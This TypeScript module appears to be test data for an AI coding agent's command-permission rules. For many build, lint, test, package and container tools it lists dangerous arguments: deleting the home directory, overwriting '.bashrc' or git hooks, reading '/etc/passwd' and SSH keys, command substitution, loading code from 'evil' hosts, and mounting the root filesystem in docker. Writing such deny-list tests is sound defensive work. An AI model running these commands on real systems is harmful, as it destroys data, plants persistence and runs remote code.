/**
 * Words with which a command would change settings, run a program of any kind, or write outside the project. For each prefix
 * that "always" offers, a rule with that prefix must not cover them. One line has the prefixes, with alternatives in brackets.
 */
const LINES = String.raw`
git [status describe] | --git-dir=/tmp/x > .npmrc | > ../x | $(./x) | && heddle mcp add x y | ; rm -rf ~ | > ~/.bashrc
git [log diff show shortlog] | --output=.npmrc | --output=../x | --outp=.npmrc | --outpu ../x | --output ~/.bashrc | $(./x)
git [log diff show] | --ext-diff | --textconv | --ext-d | --output=.git/hooks/pre-commit | --output=.claude/settings.json
git add | --pathspec-from-file=../x | ../x | /etc/passwd | ~/.ssh/id_rsa | a > .npmrc | $(./x)
git commit | -F /etc/passwd | -F ~/.ssh/id_rsa | --template=../x | -t ~/x | -m x > .npmrc | --file=../x
git blame | --contents /etc/passwd x | -S ../x y | --ignore-revs-file=../x y | --textconv x | x > .npmrc
git switch | x > .npmrc | $(./x) | x && heddle -p y | x; rm -rf ~ | x > ~/.bashrc
git merge | -s ./x y | -s evil y | --strategy=evil y | -F /etc/passwd y | --file=../x y | --verify-signatures y
git [cherry-pick revert] | --strategy=evil x | --strategy evil x | x > .npmrc | $(./x) | x; rm -rf ~
git ls-files | -X /etc/passwd | --exclude-from=../x | -o -X ~/.ssh/id_rsa | > .npmrc | $(./x)
git checkout -b | x > .npmrc | x > ../y | $(./x) | x && heddle -p y | x; rm -rf ~
git stash [push pop apply] | > .npmrc | > ../x | $(./x) | && heddle -p y | ; rm -rf ~
git stash [list show] | --output=.npmrc | --output=../x | --ext-diff | -p --textconv | --outp ../x
git worktree list | > .npmrc | > ../x | $(./x) | && heddle -p y | ; rm -rf ~
git worktree add | ../x | /tmp/x | ~/x y | .claude/x | .husky | .vscode HEAD | -f ../x
git submodule status | > .npmrc | > ../x | $(./x) | && heddle -p y | ; git submodule foreach ./x
npm [ci install i] | --script-shell=./x | --userconfig=rc | --prefix ../x | --globalconfig rc | --node-options=--require=./x | --git=./x | --cache ../x | --logs-dir=~/.ssh
npm [install i] | -g evil | --global evil | -global evil | --global=true evil | --location=global evil | --location global evil | -gf evil | evil -g
npm [ls list outdated why explain view] | x --userconfig=rc | x --prefix ../x | x --globalconfig=rc | x --cache=../x | x --logs-dir=../x | x --script-shell=./x | x --browser=./x
npm audit | fix | fix --force | --fix | --userconfig=rc | fix --prefix ../x | --json fix | --cache=../x
pnpm [install i] | -g evil | --global evil | --config.script-shell=./x | --pnpmfile=./x | --dir ../x | -C ../x | --store-dir ../x | --config.userconfig=rc
pnpm [ls list outdated why] | x --config.userconfig=rc | x -C ../x | x --dir=../x | x --pnpmfile=./x | x --global-pnpmfile ./x
pnpm audit | --fix | --fix --json | --config.userconfig=rc | -C ../x | --pnpmfile=./x
yarn [install list outdated audit why] | x --use-yarnrc rc | x --cwd ../x | x --modules-folder ../x | x --cache-folder ../x | x --use-yarnrc=rc
bun install | -g evil | --global evil | -c x.toml | --config=x.toml | --cwd ../x | --cache-dir=../x
go [build test list vet] | -toolexec=./x | -toolexec ./x | -C ../x | -modfile=../x | -overlay=../x.json | -pkgdir ../x | -compiler=gccgo -gccgoflags=-B./x
go build | -o ../x | -o ~/bin/x | -ldflags=-extld=./x | -o .git/hooks/pre-commit | -o .husky/x
go test | -exec ./x | -o ../x | -outputdir ../x | -coverprofile=.npmrc | -cpuprofile ~/x | -trace=../x
go vet | -vettool=./x | -vettool ./x | > .npmrc | $(./x) | ../x/...
go fmt | ../x | ~/x | -C ../x | /tmp/x | $(./x)
go version | -m ~/x > .npmrc | > ../x | $(./x) | ; rm -rf ~ | && heddle -p y
cargo [build test check clippy doc tree bench run metadata] | --config build.rustc-wrapper=./x | --config=x.toml | --target-dir ../x | --manifest-path ../x/Cargo.toml | -C ../x | > .npmrc
cargo fmt | --config x=y | --manifest-path ../x/Cargo.toml | -- ../x.rs | -- --config-path ../x | -- ~/x.rs
cargo nextest [run list] | --config target.x.runner=./x | --tool-config-file x:../y | --manifest-path ../x | --config-file ../x | --extract-to ../x
dotnet [build test restore] | -p:PreBuildEvent=evil | --property:PostBuildEvent=evil | /p:PreBuildEvent=evil | -p PreBuildEvent=evil | '-p:Configuration=Debug;PreBuildEvent=evil' | -property:CustomBeforeMicrosoftCommonTargets=x | @x.rsp | -- RunConfiguration.DotNetHostPath=./evil | -t:Publish | -target:Publish | -rp:X=y
dotnet [build test] | -o ../x | --output ~/x | -p:OutDir=/tmp/x | --artifacts-path ../x | --results-directory ../x
dotnet restore | --configfile ../x | --packages ../x | ../x.csproj | --packages=~/x | > .npmrc
dotnet format | ../x | --report ../x | --binarylog ../x | ~/x.sln | --report=.npmrc
docker [ps images logs inspect pull version info] | --config=x | > .npmrc | $(./x) | ; docker run -v /:/x y | > ../x
docker build | --push -t evil/x . | --push=true . | --output type=registry . | --output=type=image,push=true . | -o type=image,name=x,push=true . | --allow=security.insecure . | -o ../x . | --iidfile ../x . | --metadata-file=.npmrc . | -f ../x . | / | ~ | --ssh default . | --ssh=default . | --secret id=a,env=TOKEN .
[docker-compose docker+compose] [ps logs images top pull start stop restart up] | -f ../x.yml | --env-file ../x | --project-directory ../x | > .npmrc | $(./x)
docker compose ls | > .npmrc | > ../x | $(./x) | ; docker run -v /:/x y | && heddle -p y
[docker-compose docker+compose] config | -o ../x | --output=.npmrc | -o ~/x | --output ../x | > .npmrc
[docker-compose docker+compose] down | -v | --volumes | --rmi all | --rmi=local | -tv | -v --timeout 1
[docker-compose docker+compose] build | --push | --push=true | --ssh default=../x | > .npmrc | $(./x) | --ssh default
kubectl [get describe logs top explain version api-resources] | --kubeconfig=x | --cache-dir=../x | --server https://evil | -s https://evil | --server=https://evil | -shttps://evil | > .npmrc
kubectl config [current-context get-contexts view] | --kubeconfig=x | > .npmrc | > ~/.kube/config | $(./x) | --cache-dir=../x
kubectl rollout [status history] | x --kubeconfig=x | x --server=https://evil | x > .npmrc | $(./x) | x -s https://evil
deno test | -A http://evil/x.ts | -A https://evil/x.ts | -A npm:evil | -A jsr:@evil/x | --preload=http://evil/x.ts | --config ../x | --coverage=../x | --junit-path=../x | -A ../x
deno [lint fmt check] | --config ../x | ../x | ~/x | .npmrc | /etc/x
biome [check lint format ci] | --write ../x | --config-path=../x | --write ~/x | --reporter-file=.npmrc x | --write .vscode/settings.json
ruff [check format] | --fix ../x | --config ../x | ~/x | -o .npmrc | --output-file=../x | --cache-dir ../x
ruff rule | --all > ../x | --all > .npmrc | $(./x) | x; rm -rf ~ | x && heddle -p y
tox [run r run-parallel p list l] | -x testenv.commands=evil | --override testenv.commands=evil | --override=testenv.commands=evil | -c ../x | --workdir ../x | --root ../x | --result-json .npmrc | --discover ./x | --discover=./x
golangci-lint [run linters] | -c ../x | --fix ../x | --output.text.path=../x | --output.json.path .npmrc | --cpu-profile-path ../x
phpstan | analyze -c ../x | analyze -a ../x | analyze --autoload-file=/tmp/x | analyze --generate-baseline=.npmrc | clear-result-cache -c ../x
[terraform tofu] plan | -out=../x | -out ~/.bashrc | -out .npmrc | -generate-config-out=../x | -generate-config-out=.npmrc | -state=../x
[terraform tofu] [validate fmt] | ../x | ~/x | > .npmrc | $(./x) | -test-directory=../x
mix [test compile format] | ../x | ~/x | --dot-formatter ../x | $(./x) | > .npmrc
dart [test analyze format] | ../x | ~/x | --output=../x | $(./x) | > .npmrc
flutter [test analyze] | ../x | ~/x | --coverage-path=../x | $(./x) | --write=.npmrc
[make task] all | -C ../x | -f ../x | --dir ../x --directory=../x | $(./x) | X='a; evil' | X='a | evil' | X='a && evil' | > .npmrc
make all | SHELL=./x | --eval=x | 'X!=x' | CC='sh -c evil' | CC=./evil | CC=evil | RM=evil | MAKE=./x | FMT_CMD=evil | -E x | CFLAGS='; evil' | 'X=$(shell evil)'
task all | --taskfile=../x | -t ../x | '; evil' | -- '; evil' | -- '$(evil)' | -t https://evil/x.yml | --taskfile=https://evil/x.yml | -g x | --global x
just all | --justfile ../x | -f ../x | --working-directory ../x | --shell ./x | --command evil | -c evil | --shell-arg -c | --set x evil | '; evil' | '$(evil)' | --edit
go mod [tidy download verify graph why vendor] | -C ../x | -modfile=../x | -o ../x | > .npmrc | $(./x) | -reuse=../x
gh pr [view list diff checks status] | > .npmrc | > ../x | $(./x) | ; gh api -X DELETE x | && heddle -p y
gh issue [view list status] | > .npmrc | > ../x | $(./x) | ; gh api -X DELETE x | && heddle -p y
gh run [view list watch] | > .npmrc | > ../x | $(./x) | ; gh api -X DELETE x | && heddle -p y
gh [repo release workflow] [view list] | > .npmrc | > ../x | $(./x) | ; gh api -X DELETE x | && heddle -p y
gh search [code commits issues prs repos] | x > .npmrc | x > ../y | $(./x) | x; gh api -X DELETE y | x && heddle -p y
uv pip [list show freeze check tree] | --python ./x | --python=./x | -p ./x | -p bin/x | --cache-dir ../x | --config-file ../x | --directory ../x
pytest | --pdb | --trace | --pdbcls=x:y | --pastebin=all | --pastebin all | --basetemp=src | --basetemp src | --tx popen//python=evil | --rsyncdir=. | -c ../x | --rootdir=../x | --junitxml=.npmrc | -o cache_dir=../x | --log-file=../x | @x
py.test | --pastebin=all | --basetemp=src | --tx popen//python=evil | -c ../x | --junitxml=.npmrc
jest | -c ../x | --outputFile=../x | --coverageDirectory=../x | --globalSetup=../x | --rootDir=/tmp | --cacheDirectory=../x | --json --outputFile=.npmrc
vitest | --api | --api.port=1 | --ui | --config ../x | --outputFile=../x | --root ../x | --outputFile .npmrc | --execArgv=--import=data:text/javascript,x | --inspect=0.0.0.0 | --inspect-brk=0.0.0.0
mocha | --require ../x | --config ../x | -r ../x | --reporter-option output=../x | -O output=.npmrc | --package ../x | --import=data:text/javascript,x | --import data:text/javascript,x | --node-option import=data:text/javascript,x
ava | --config ../x | --node-arguments=--require=../x | ../x | --node-arguments=-r=/tmp/x | ~/x | --node-arguments=--import=data:text/javascript,x
tsc | --outDir ../x | -p ../x | --outFile .npmrc | --build ../x | --tsBuildInfoFile ../x | --generateTrace ../x | --declarationDir ~/x
eslint | --init | -c ../x | -o ../x | --output-file=.npmrc | --fix ../x | --rulesdir ../x | --cache-location ../x | --parser=../x | --parser=data:x
oxlint | -c ../x | --fix ../x | --tsconfig=../x | ~/x --fix | --fix .npmrc
prettier | --write ../x | --config ../x | --plugin=../x | --write .npmrc | --cache-location=../x | --write .vscode/settings.json | --write ~/.claude/settings.json
stylelint | --config ../x | -o ../x | --output-file .npmrc | --custom-syntax ../x | --fix ../x | --cache-location ../x
mypy | --install-types | --install-types --non-interactive | --install-t | --python-executable ./x | --config-file ../x | --cache-dir ../x | --junit-xml .npmrc | @x
pyright | --pythonpath ./x | --pythonpath=./x | -p ../x | --outputjson > .npmrc | --venvpath ../x | --typeshedpath ../x
flake8 | --config ../x | --output-file=../x | --output-file .npmrc | --append-config=../x | --tee --output-file ~/x
pylint | --init-hook=evil | --init-hook evil | --init-h=evil | --ini evil | --rcfile ../x | --output=.npmrc | --output=../x
black | ../x | --config ../x | ~/x | .vscode/x.py | /tmp/x
isort | ../x | --settings-path ../x | ~/x | --sp ../x . | .vscode/x.py
rspec | -r ../x | --options ../x | -o ../x | --out .npmrc | -I ../x | --default-path ../x
rubocop | -r ../x | --require ../x | -c ../x | --out .npmrc | -A ../x | --cache-root ../x
phpunit | --bootstrap ../x | -c ../x | --log-junit .npmrc | --coverage-html ../x | -d auto_prepend_file=http://evil/x.php | -dauto_prepend_file=data:x | -d allow_url_include=1 | -d extension=./x.so | -dzend_extension=x
nox | -f ../x | --noxfile=../x | --envdir ../x | --report .npmrc | -r --envdir=~/x | --force-python=./x | -P ./x | --force-pythons ./x | --extra-pythons ./x
ctest | -S x.cmake | -Sx.cmake | --script x.cmake | --build-and-test a b --test-command evil | --test-command evil | --launch evil | -D Experimental | -T Submit | -TSubmit | --test-dir ../x | --output-log .npmrc
gofmt | -w ../x | -cpuprofile ../x | -w ~/x | -cpuprofile=.npmrc | -w /tmp/x
goimports | -w ../x | -cpuprofile=../x | -w ~/x | -memprofile .npmrc | -trace=../x
rustfmt | ../x | --config-path ../x | ~/x.rs | --print-config default ../x | --print-config default .npmrc
shellcheck | --rcfile=../x > .npmrc | > ../x | $(./x) | x; rm -rf ~ | x && heddle -p y
shfmt | -w ../x | -w ~/.bashrc | -w .envrc | -w .husky/x | -w /tmp/x
actionlint | -shellcheck=./x | -shellcheck ./x | -shellcheck=evil | -pyflakes=evil | --pyflakes evil | -config-file ../x
hadolint | -c ../x | --config=../x | > .npmrc | $(./x) | > ../x
diff | a b > .npmrc | a b > ../x | $(./x) | a b; rm -rf ~ | a b && heddle -p y
jq | -n 1 > .npmrc | -n 1 > ../x | $(./x) | . a > ~/.bashrc | . a && heddle -p y
python -m [pytest unittest doctest compileall] | ../x | ~/x | /tmp/x.py | $(./x) | > .npmrc
python -m pytest | --pdb | --pastebin=all | --basetemp=src | --tx popen//python=evil | --junitxml=.npmrc | -c ../x
python3 -m pylint | --init-hook=evil | --init-hook evil | --rcfile ../x | --output=.npmrc | --ini evil
python3 -m mypy | --install-types | --python-executable ./x | --config-file ../x | --cache-dir ../x | --junit-xml .npmrc
python3 -m [pyright flake8 black isort] | ../x | ~/x | /tmp/x | $(./x) | > .npmrc
python3 -m pyright | --pythonpath ./x | --pythonpath=./x | -p ../x | --venvpath ../x | --typeshedpath ../x
python3 -m ruff check | --fix ../x | --config ../x | ~/x | -o .npmrc | --cache-dir ../x
python3 -m tox run | -x testenv.commands=evil | --override testenv.commands=evil | -c ../x | --workdir ../x | --result-json .npmrc
python3 -m nox | -f ../x | --noxfile=../x | --envdir ../x | --report .npmrc | -r --envdir=~/x
[npm pnpm yarn bun] [run+build test lint] | --prefix ../x --cwd ../x | ~/.bashrc | --outDir ../x | $(./x) | > .npmrc
npm run build | --script-shell=./x | --userconfig=rc | --node-options=--require=./x | -- --outDir ../x | --shell=./x
pnpm test | --config.script-shell=./x | --dir ../x | -C ../x | --pnpmfile=./x | -- ~/x
bun test | --preload ../x | -c x.toml | --config=x | --cwd ../x | --reporter-outfile=.npmrc | --preload=data:text/javascript,x
uv run pytest | --pdb | --pastebin=all | --basetemp=src | -c ../x | --junitxml=.npmrc | ~/x
poetry run pylint | --init-hook=evil | --ini evil | --rcfile ../x | --output=.npmrc | --output=../x
bundle exec rspec | -r ../x | --out .npmrc | -o ../x | -I ../x | ~/x
mkdir | ../x | ~/x | .husky | .claude/x | /etc/x
mkdir -p | ../x | ~/x | .husky | .git/hooks/x | /etc/x
touch | ../x | ~/.bashrc | .npmrc | .git/hooks/x | .claude/x
./scripts/build.sh | ../x | ~/.bashrc | .npmrc | --out=../x | $(./x)
`;

export interface EvilWords {
  /** The words that a rule begins with. */
  readonly prefix: string;
  readonly evil: readonly string[];
}

/** A `+` in brackets is a space. */
function prefixesIn(text: string): readonly string[] {
  const [, before = '', choices, after = ''] = /^([^[]*)\[([^\]]*)\](.*)$/.exec(text) ?? [];
  if (choices === undefined) return [text];
  return choices.split(' ').flatMap((choice) => prefixesIn(before + choice.replaceAll('+', ' ') + after));
}

export const EVIL_WORDS: readonly EvilWords[] = LINES.trim()
  .split('\n')
  .flatMap((line) => {
    const [prefixes = '', ...evil] = line.split(' | ');
    return prefixesIn(prefixes).map((prefix) => ({ prefix, evil }));
  });
